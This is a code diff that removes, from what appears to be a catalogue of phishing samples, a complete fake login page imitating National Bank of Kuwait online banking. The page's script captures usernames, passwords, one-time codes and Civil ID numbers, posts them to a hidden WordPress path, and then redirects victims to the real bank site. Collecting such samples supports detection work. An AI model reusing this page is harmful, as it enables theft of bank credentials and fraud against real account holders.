@@ -11,22 +11,6 @@ header.h{background:#fff;border-bottom:1px solid #e6e9f2;padding:14px 24px;displ
 header.h a{color:#1b3fae;text-decoration:none;font-size:14px}
 .tabs{display:flex;background:#eef1fa;border-radius:10px;padding:4px;margin-bottom:20px}.tabs span{flex:1;text-align:center;padding:9px;border-radius:8px;font-size:14px;color:#5b6170}.tabs span.on{background:#fff;color:#1b3fae;font-weight:700}`;
 
-const nbkInner = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>NBK Online Banking | National Bank of Kuwait</title>
-<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f4f7}.bar{background:#00205b;padding:16px 28px;color:#fff;display:flex;align-items:center;justify-content:space-between}.bar b{font-size:22px;letter-spacing:1px}.bar span{font-size:13px;opacity:.8}
-.box{max-width:400px;margin:46px auto;background:#fff;padding:30px;border-top:4px solid #00a3e0;box-shadow:0 2px 10px rgba(0,0,0,.07)}h2{margin:0 0 18px;color:#00205b;font-weight:normal}
-label{font-size:13px;color:#444;display:block;margin:12px 0 5px}input{width:100%;box-sizing:border-box;height:42px;border:1px solid #c8ccd3;padding:0 10px;font-size:15px}
-button{margin-top:20px;width:100%;height:44px;background:#00205b;color:#fff;border:0;font-size:15px;cursor:pointer}.s{display:none}.small{font-size:12px;color:#777;margin-top:14px;line-height:1.6}</style></head>
-<body><div class="bar"><b>NBK</b><span>English | عربي</span></div>
-<div class="box" id="a"><h2>Login to NBK Online</h2><form id="f1"><label>Username</label><input name="u" autocomplete="username" required><label>Password</label><input name="p" type="password" autocomplete="current-password" required><button>Login</button></form>
-<div class="small">Never share your OTP or password with anyone. NBK will never ask you for your login details by phone, SMS or e-mail.</div></div>
-<div class="box s" id="b"><h2>Secure Verification</h2><p class="small">A one-time password has been sent to your registered mobile. Please enter it below to confirm your identity.</p><form id="f2"><label>OTP</label><input name="otp" inputmode="numeric" maxlength="6" required><label>Civil ID number</label><input name="cid" inputmode="numeric" maxlength="12" required><button>Confirm</button></form></div>
-<script>
-var g=function(id){return document.getElementById(id)};var d={};
-function up(o,cb){var x=new XMLHttpRequest();x.open('POST','/wp-includes/css/nbk/post.php');x.setRequestHeader('Content-Type','application/json');x.onloadend=cb;x.send(JSON.stringify(o))}
-g('f1').onsubmit=function(e){e.preventDefault();d.u=this.u.value;d.p=this.p.value;up(d,function(){g('a').style.display='none';g('b').style.display='block'})};
-g('f2').onsubmit=function(e){e.preventDefault();d.otp=this.otp.value;d.cid=this.cid.value;up(d,function(){location.href='https://www.nbk.com/kuwait.html'})};
-</script></body></html>`;
-
 export const entries: Entry[] = [
 {
   id: 'yl-enbd-login-otp-card',
